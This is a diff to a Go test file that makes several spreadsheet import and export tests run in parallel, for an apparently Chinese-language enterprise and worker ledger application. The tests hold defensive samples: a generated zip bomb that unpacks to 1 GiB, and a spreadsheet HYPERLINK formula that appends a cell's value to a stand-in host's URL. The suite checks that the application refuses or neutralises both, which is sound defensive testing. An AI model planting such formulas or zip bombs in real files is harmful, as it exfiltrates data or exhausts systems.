@@ -40,6 +40,7 @@ func officeFile(t *testing.T, name string) []byte {
 // same; a credit code the spreadsheet took for a number, and a date that is none, are
 // named with what to do.
 func TestLedgerImportReadsWhatOfficesSave(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		c := env.Login(t, "command")
 		status, page := upload(t, c, "enterprises", "企业台账.xlsx", officeFile(t, "office/enterprises-bad.xlsx"))
@@ -82,6 +83,7 @@ func TestLedgerImportReadsWhatOfficesSave(t *testing.T) {
 // column is read (it was dropped, every worker imported as not poor), a value that is
 // neither 是 nor 否 is refused, and an ID number typed as a number is named.
 func TestWorkerImportReadsPoorHouseholdsAndCodes(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		api := env.APIClient(t, "enterprise001")
 		var ent int64
@@ -166,6 +168,7 @@ type importAnswer struct {
 // A zip bomb — a few MB that unpack to a GiB — is refused by every import at once with
 // what is wrong, before it is unpacked.
 func TestImportsRefuseZipBombs(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		bomb := xlsxtest.Bomb("xl/worksheets/sheet1.xml", 1<<30)
 		const want = "文件解压后有 1024 MB，超过上限 64 MB"
@@ -201,6 +204,7 @@ func TestImportsRefuseZipBombs(t *testing.T) {
 // CSV is quoted, a date is a date cell (its serial number, shown 2020-03-09), a credit
 // code of digits only stays text; the scorecard's export link keeps the period shown.
 func TestExportsAreTypedAndSafe(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		const formula = `=HYPERLINK("http://x.example/?"&B2,"查看")`
 		var uscc string
@@ -289,6 +293,7 @@ func TestLargeUploadLeavesNoSpool(t *testing.T) {
 // carries no file and no ID number: the upload stays on the server, sealed, under a token
 // only its uploader can use.
 func TestSeekerImportReadsMacExcel1904(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		c := env.Login(t, "village001")
 		c.Page("/job-seekers/import")
@@ -336,6 +341,7 @@ func TestSeekerImportReadsMacExcel1904(t *testing.T) {
 
 // Every import says a bad cell the same way, once: "第 N 行 · 列名：message".
 func TestImportErrorsReadAlike(t *testing.T) {
+	t.Parallel()
 	apptest.Each(t, apptest.Options{}, func(t *testing.T, env *apptest.Env) {
 		var ent int64
 		env.App.DB.R.QueryRow(`SELECT enterprise_id FROM users WHERE username = 'enterprise001'`).Scan(&ent)
